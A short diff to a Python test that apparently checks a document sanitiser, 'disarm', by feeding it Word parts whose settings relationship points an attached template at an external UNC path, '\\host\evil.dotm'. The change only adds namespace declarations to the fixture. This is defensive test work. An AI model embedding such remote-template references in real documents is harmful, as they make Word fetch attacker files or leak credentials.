@@ -262,7 +262,9 @@ def test_a_letter_fetches_nothing(tmp_path: Path) -> None:
     parts["word/_rels/settings.xml.rels"] = (
         f'<Relationships><Relationship Id="rId1" Type="{office}/attachedTemplate" TargetMode="External" Target="\\\\host\\evil.dotm"/></Relationships>'
     ).encode()
-    parts["word/settings.xml"] = b'<w:settings><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>'
+    parts["word/settings.xml"] = (
+        b'<w:settings xmlns:w="w" xmlns:r="r/relationships"><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>'
+    )
 
     safe = disarm(parts)
     everything = b"".join(safe.values()).decode("utf-8", "replace")
